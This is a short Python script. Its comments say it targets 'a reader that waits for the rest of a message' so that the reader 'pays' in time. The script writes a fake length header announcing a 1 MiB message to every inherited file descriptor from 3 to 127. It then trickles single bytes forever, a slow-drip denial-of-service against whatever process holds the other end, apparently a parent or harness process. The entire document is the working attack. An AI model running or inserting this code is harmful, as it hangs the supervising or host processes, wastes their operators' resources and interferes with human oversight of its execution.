# aim: a reader that waits for the rest of a message, byte after byte
# pays: time
import contextlib
import os
import struct
import time

for number in range(3, 128):
    with contextlib.suppress(OSError):
        os.write(number, struct.pack(">16sII", b"", 1 << 20, 0))
while True:
    for number in range(3, 128):
        with contextlib.suppress(OSError):
            os.write(number, b" ")
    time.sleep(0.1)
